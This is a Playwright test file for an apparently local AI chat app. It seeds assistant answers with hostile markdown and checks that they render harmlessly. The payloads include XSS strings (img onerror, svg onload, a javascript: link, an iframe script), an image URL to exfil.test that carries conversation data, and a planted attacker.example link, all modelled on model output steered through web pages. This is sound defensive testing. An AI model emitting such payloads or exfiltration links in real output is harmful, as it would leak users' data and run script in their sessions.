/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { openMemoryStore } from '../../electron/core/memory';
import type { PonderServe } from '../support/ponder-serve';
import { startPonderServe } from '../support/ponder-serve';
import { screenshot } from '../support/screenshot';

/** Model output an attacker could steer (through a web page in Search) — SECURITY.md #5 and #7. */
const HOSTILE_ANSWER = [
  'The tides are explained in [1] and [2].',
  '',
  '<img src=x onerror="window.__xss=\'img\'">',
  '',
  '<svg onload="window.__xss=\'svg\'"></svg>',
  '',
  "[click me](javascript:window.__xss='link')",
  '',
  '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
  '',
  '![chart](https://exfil.test/collect?d=SECRET-CONVERSATION)',
  '',
  '<a href="https://evil.test/" onclick="window.__xss=\'onclick\'">raw anchor</a>',
  '',
  '[the docs](https://example.com/docs)',
].join('\n');

const dataDir = mkdtempSync(join(tmpdir(), 'ponder-e2e-hostile-'));
let server: PonderServe;

test.beforeAll(async () => {
  const store = openMemoryStore({ path: join(dataDir, 'ponder.db') });
  const conversation = store.createConversation({ title: 'Hostile answer' });
  store.addMessage({
    conversationId: conversation.id,
    role: 'user',
    text: 'How do tides work?',
    mode: 'reasoning',
  });
  // A Deep Reasoning answer: every rule for model output applies; Search's own link rule is below.
  store.addMessage({
    conversationId: conversation.id,
    role: 'assistant',
    text: '',
    mode: 'reasoning',
    solution: HOSTILE_ANSWER,
    sources: [
      {
        n: 1,
        title: '<img src=x onerror="window.__xss=\'source\'">Tides',
        url: 'https://example.com/tides',
        domain: 'example.com',
        snippet: '<script>window.__xss="snippet"</script> The moon pulls the sea.',
        score: 1,
        provider: 'searxng',
      },
      {
        n: 2,
        title: 'Neap tides',
        url: 'https://example.org/neap',
        domain: 'example.org',
        snippet: 'Quarter moons.',
        score: 0.5,
        provider: 'searxng',
      },
    ],
  });
  const planted = store.createConversation({ title: 'Planted link' });
  store.addMessage({ conversationId: planted.id, role: 'user', text: 'Tides?', mode: 'search' });
  store.addMessage({
    conversationId: planted.id,
    role: 'assistant',
    text: '',
    mode: 'search',
    solution:
      'The moon [1], see [the source](https://example.com/tides). [Click here](https://attacker.example/canary?d=secret).',
    sources: [
      {
        n: 1,
        title: 'Tides',
        url: 'https://example.com/tides',
        domain: 'example.com',
        snippet: 'The moon pulls the sea.',
        score: 1,
        provider: 'searxng',
      },
    ],
  });
  await store.dispose();
  server = await startPonderServe({ withModel: false, dataDir });
});

test.afterAll(async () => {
  await server?.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

test('hostile markdown renders inert, loads nothing and links open only on click', async ({
  page,
  context,
}) => {
  const leaving: string[] = [];
  // Nothing may leave for another host; record and refuse anything that tries.
  await context.route(/^(?!http:\/\/127\.0\.0\.1:)/, async (route) => {
    leaving.push(route.request().url());
    await route.abort();
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await page.goto(server.uiUrl);
  // The seeded conversation has no model, yet history works.
  await page.getByRole('button', { name: 'Hostile answer', exact: true }).click();
  const answer = page.getByLabel('Answer', { exact: true });
  await expect(answer).toContainText('The tides are explained in');

  // Raw HTML is shown as text, never parsed.
  await expect(answer).toContainText('<img src=x onerror=');
  await expect(answer).toContainText('<iframe srcdoc=');
  expect(await answer.locator('img, svg, iframe, script, object, embed').count()).toBe(0);
  const handlers = await page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
  );
  expect(handlers).toEqual([]);
  const hrefs = await answer
    .locator('a[href]')
    .evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  expect(hrefs.filter((href) => !/^(https?:|#source-)/.test(href ?? ''))).toEqual([]);
  // The image became a link that loads nothing until clicked.
  await expect(answer.getByRole('link', { name: '[image: chart]' })).toBeVisible();
  // Source cards show their text as text.
  await expect(page.getByRole('list', { name: 'Sources' })).toContainText(
    '<script>window.__xss="snippet"</script>',
  );
  await screenshot(page, '15-hostile-answer-rendered-inert');

  // Citations jump to their source card.
  await answer.getByRole('link', { name: 'Source 2' }).click();
  await expect(page.locator('#source-2')).toHaveClass(/highlighted/);
  await expect(page.locator('#source-2 button')).toBeFocused();

  // A link opens outside the app on click (a new browsing context), the app stays where it is.
  const appUrl = page.url();
  const popup = page.waitForEvent('popup');
  await answer.getByRole('link', { name: 'the docs' }).click();
  await popup;
  // The new context asked for the link (the route refused it: the test has no internet).
  await expect.poll(() => [...new Set(leaving)]).toEqual(['https://example.com/docs']);
  expect(page.url()).toBe(appUrl);
  // The javascript: link lost its href: clicking it does nothing.
  await answer.getByText('click me').click();
  expect(page.url()).toBe(appUrl);

  expect(
    await page.evaluate(() => (window as unknown as { __xss?: string }).__xss),
  ).toBeUndefined();
  expect(dialogs).toEqual([]);
  // The only address asked for was the link the person clicked (the refused popup may retry it);
  // the image and the rest never loaded.
  expect([...new Set(leaving)]).toEqual(['https://example.com/docs']);
});

test('a Search answer links only to its own sources (SECURITY 13)', async ({ page }) => {
  await page.goto(server.uiUrl);
  await page.getByRole('button', { name: 'Planted link', exact: true }).click();
  const answer = page.getByLabel('Answer', { exact: true });
  await expect(answer).toContainText('Click here');
  await expect(answer.getByRole('link', { name: 'the source' })).toHaveAttribute(
    'href',
    'https://example.com/tides',
  );
  await expect(answer.getByRole('link', { name: 'Source 1' })).toBeVisible();
  // The address a page could have planted is plain text, not a link.
  await expect(answer.getByRole('link', { name: 'Click here' })).toHaveCount(0);
  expect(await answer.locator('a[href*="attacker.example"]').count()).toBe(0);
});

test('every page carries a strict CSP and an injected inline script is refused', async ({
  page,
}) => {
  const response = await page.goto(server.uiUrl);
  const header = response?.headers()['content-security-policy'] ?? '';
  for (const directive of ["default-src 'self'", "object-src 'none'", "img-src 'self' data:"]) {
    expect(header).toContain(directive);
  }
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(meta).toContain("default-src 'self'");
  const violated = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(event.effectiveDirective),
        );
        const script = document.createElement('script');
        script.textContent = 'window.__csp = "ran"';
        document.body.append(script);
        setTimeout(() => resolve('no violation'), 3000);
      }),
  );
  expect(violated).toMatch(/^script-src/);
  expect(
    await page.evaluate(() => (window as unknown as { __csp?: string }).__csp),
  ).toBeUndefined();
});
